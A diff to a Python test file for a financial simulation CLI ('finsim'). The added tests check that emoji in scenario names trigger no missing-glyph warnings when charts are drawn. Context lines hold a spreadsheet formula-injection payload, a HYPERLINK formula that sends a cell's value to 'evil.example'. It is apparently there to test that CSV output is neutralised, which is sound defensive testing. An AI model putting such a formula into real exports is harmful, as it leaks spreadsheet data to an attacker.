@@ -6,6 +6,8 @@ from __future__ import annotations
 
 import csv
 import re
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
@@ -19,6 +21,7 @@ from finsim.cli import main
 from finsim.report.files import MAX_STEM, file_names, neutralised, write_csv
 
 from .conftest import SMALL
+from .processes import ENV
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -148,6 +151,49 @@ def test_an_id_the_outputs_use_does_not_crash_the_terminal(tmp_path, monkeypatch
     size = _invoke("size", str(scenario), "-n", "3", "-j", "1", "--start", "2013-01",
                    "--months", "12", "--confidence", "0.9", "--out", str(tmp_path / "s"))
     assert size.exit_code == 0, size.output
+
+
+def _emoji(tmp_path: Path) -> Path:
+    """Glyphs no chart font has, in every text a chart draws: the name, a provider's and
+    a funder's id and name."""
+    return _scenario(tmp_path, **{"name": "Test 🚀", "providers.0.id": "alpha🚀",
+                                  "providers.0.name": "Alpha 🚀", "funding.2.id": "rest🎯",
+                                  "funding.2.name": "Rest 🎯"})
+
+
+def test_a_quiet_run_with_emoji_names_prints_nothing_on_stderr(tmp_path):
+    """matplotlib warns of each glyph its font lacks; -q promises errors only. -j 2: the
+    charts are drawn in the painter's process."""
+    scenario = _emoji(tmp_path)
+    done = subprocess.run([sys.executable, "-m", "finsim", "run", str(scenario), "-q",
+                           "-n", "4", "-j", "2", "--out", str(tmp_path / "out")],
+                          capture_output=True, text=True, env=ENV, timeout=300)
+    assert done.returncode == 0, done.stderr
+    assert done.stderr == ""
+    assert (tmp_path / "out" / "cashflow.png").stat().st_size > 0
+
+
+@pytest.mark.parametrize("command", [
+    ["sensitivity", "--param", "costs.material.per_slot_month=40:60",
+     "--metric", "cost_total", "--metric", "funding_rest🎯"],
+    ["size", "--start", "2013-01", "--months", "12", "--confidence", "0.9"],
+    ["compare", "SELF"]])
+def test_charts_of_emoji_names_raise_no_glyph_warning(tmp_path, command):
+    """Every command's charts (PNG and the report's SVG), in process: only the missing-glyph
+    warning is silenced, and only while a chart is drawn."""
+    import warnings
+
+    scenario = _emoji(tmp_path)
+    name, *rest = command
+    rest = [str(scenario) if r == "SELF" else r for r in rest]
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        done = _invoke(name, str(scenario), *rest, "-n", "3", "-j", "1",
+                       "--out", str(tmp_path / "out"))
+        warnings.warn("Glyph 1 (x) missing from font(s) here", UserWarning)  # not silenced
+    assert done.exit_code == 0, done.output
+    glyphs = [str(w.message) for w in caught if "missing from font" in str(w.message)]
+    assert glyphs == ["Glyph 1 (x) missing from font(s) here"]
 
 
 # -- file names from ids ----------------------------------------------------------------------
